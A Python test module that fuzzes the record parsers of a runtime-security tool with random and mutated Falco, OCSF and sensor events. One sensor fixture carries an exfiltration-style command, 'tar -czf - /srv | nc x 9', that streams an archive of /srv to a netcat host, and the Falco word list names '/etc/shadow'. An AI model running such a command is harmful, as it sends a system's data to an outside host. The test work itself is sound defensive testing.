"""Bad input never breaks the Falco, OCSF or sensor sources (one JSON object a line each).

Random bytes, random objects in each source's vocabulary (hypothesis), and 10,000 seeded
mutations of each source's records (byte flips, truncations, key deletions, type swaps): every
non-blank line is a record, every record gives events, nothing to use, or a problem located by
its line, and no problem is a parser bug (the reader's catch-all for exceptions other than
RecordError).
"""

from __future__ import annotations

import importlib
import json
import math
from pathlib import Path

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.robustness import (
    MUTATIONS,
    SETTINGS,
    account,
    account_mutations,
    assert_located,
    json_values,
    mutated_records,
    nonblank_lines,
    scalars,
)
from tidewaiter.sensor.schema import MARKER, VERSION, ProcessInfo, SensorRecord
from tidewaiter.sources import all_sources, base, get

all_sources()
for module in ("falco", "ocsf", "sensor"):  # registers the sources
    importlib.import_module(f"tidewaiter.sources.{module}")

SOURCES = ("falco", "ocsf", "sensor")
FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
KEYS = {
    "falco": (
        "output", "priority", "rule", "time", "output_fields", "source", "tags", "hostname",
        "evt.type", "evt.time", "evt.rawres", "fd.name", "fd.sip", "fd.sport", "fd.cip",
        "fd.cport", "fd.rip", "fd.rport", "fd.lip", "fd.lport", "fd.typechar", "fd.num",
        "proc.pid", "proc.exepath", "proc.cmdline", "proc.name", "proc.ppid", "proc.pcmdline",
        "proc.pname", "proc.pexepath", "user.name", "user.uid", "container.id",
        "container.name", "container.image.repository", "container.image.tag",
        "container.image.id", "container.mounts", "evt.arg.flags", "evt.res",
    ),
    "ocsf": (
        "class_uid", "activity_id", "time", "metadata", "device", "hostname", "process",
        "parent_process", "actor", "file", "path", "name", "pid", "cmd_line", "user", "uid",
        "src_endpoint", "dst_endpoint", "ip", "port", "traffic", "bytes_out", "bytes_in",
        "container", "image", "category_uid", "type_uid", "severity_id",
    ),
    "sensor": (
        "sensor", "v", "time", "event", "host", "pid", "ppid", "uid", "exe", "argv",
        "argv_truncated", "parent", "cgroup_id", "cgroup", "container_id", "runtime", "path",
        "flags", "family", "daddr", "dport", "ret", "bytes", "sends",
    ),
}  # fmt: skip
WORDS = {
    "falco": ("execve", "open", "openat", "connect", "sendto", "rename", "unlink", "<NA>",
              "10.0.0.1:4444->203.0.113.9:443", "/etc/shadow", "Critical", "syscall"),
    "ocsf": (1007, 1001, 4001, 1, 2, 3, 6, "10.0.0.1", "/bin/sh", 1714644000000),
    "sensor": (MARKER, "exec", "create", "rename", "connect", "send", "runc", "/bin/sh"),
}  # fmt: skip
CID = "0123456789abcdef" * 4


def sensor_records() -> list[bytes]:
    """Records of every kind, as `tidewaiter sensor` writes them (no fixture file exists)."""
    common: dict[str, object] = {
        "sensor": MARKER, "v": VERSION, "time": 1_767_225_600.5, "host": "node-1", "pid": 42,
        "ppid": 7, "uid": 0, "exe": "/bin/sh", "argv": ("sh", "-c", "tar -czf - /srv | nc x 9"),
        "parent": ProcessInfo(pid=7, exe="/bin/bash", argv=("bash",)), "cgroup_id": 9,
        "cgroup": f"/{CID}", "container_id": CID, "runtime": "containerd",
    }  # fmt: skip
    kinds: list[dict[str, object]] = [
        {"event": "exec"},
        {"event": "create", "path": "/srv/t.tgz", "flags": 577},
        {"event": "rename", "path": "/srv/u.tgz"},
        {"event": "connect", "family": 2, "daddr": "10.213.0.2", "dport": 9000, "ret": -115},
        {"event": "send", "family": 10, "daddr": "2001:db8::9", "dport": 443, "bytes": 4096,
         "sends": 3},
    ]  # fmt: skip
    return [
        msgspec.json.encode(SensorRecord(**common, **kind))  # type: ignore[arg-type]
        for kind in kinds
    ]


def records(name: str) -> list[bytes]:
    if name == "sensor":
        return sensor_records()
    paths = {
        "falco": ("falco/alerts.jsonl", "falco/malformed.jsonl", "benign/log-rotation.falco.jsonl"),
        "ocsf": ("ocsf/events.jsonl",),
    }[name]
    return nonblank_lines(*(FIXTURES / path for path in paths))


def read_accounted(name: str, data: bytes) -> None:
    events, report = account(get(name), data)
    assert_located(report, data.count(b"\n") + 1)
    for event in events:
        assert math.isfinite(event.time) or name == "sensor"  # the sensor's time is its own
        msgspec.json.encode(event)  # every field holds the type the model declares


@pytest.fixture(autouse=True)
def every_problem_listed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(base, "MAX_EXAMPLES", 10 * MUTATIONS)


# --- hypothesis -----------------------------------------------------------------------------

lines_of_bytes = st.lists(st.binary(max_size=120), max_size=12).map(b"\n".join)


def objects(name: str) -> st.SearchStrategy[bytes]:
    keys = KEYS[name]
    values = json_values(scalars(*map(str, WORDS[name])) | st.sampled_from(WORDS[name]), keys)
    fields = st.dictionaries(st.sampled_from(keys), values, max_size=10)
    if name == "sensor":  # the marker first, as the sensor writes it, so records reach past it
        fields = fields.map(lambda record: {"sensor": MARKER, **record})
    return st.lists(fields | values, max_size=4).map(
        lambda found: b"\n".join(json.dumps(o).encode() for o in found)
    )


@pytest.mark.parametrize("name", SOURCES)
@settings(SETTINGS, max_examples=30)
@given(data=lines_of_bytes)
def test_random_bytes(name: str, data: bytes) -> None:
    read_accounted(name, data)


@pytest.mark.parametrize("name", SOURCES)
@settings(SETTINGS, max_examples=30)
@given(data=st.data())
def test_random_objects_in_the_sources_vocabulary(name: str, data: st.DataObject) -> None:
    read_accounted(name, data.draw(objects(name)))


# --- seeded mutations -----------------------------------------------------------------------


@pytest.mark.parametrize("name", SOURCES)
def test_ten_thousand_mutated_records(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    lines = mutated_records(records(name), seed=sum(map(ord, name)))
    report, bad = account_mutations(get(name), lines, monkeypatch)
    assert report.records == sum(1 for line in lines if line.strip())  # cut to nothing: blank
    assert report.events > MUTATIONS // 10  # the mutations reach both sides
    assert len(bad) > MUTATIONS // 10
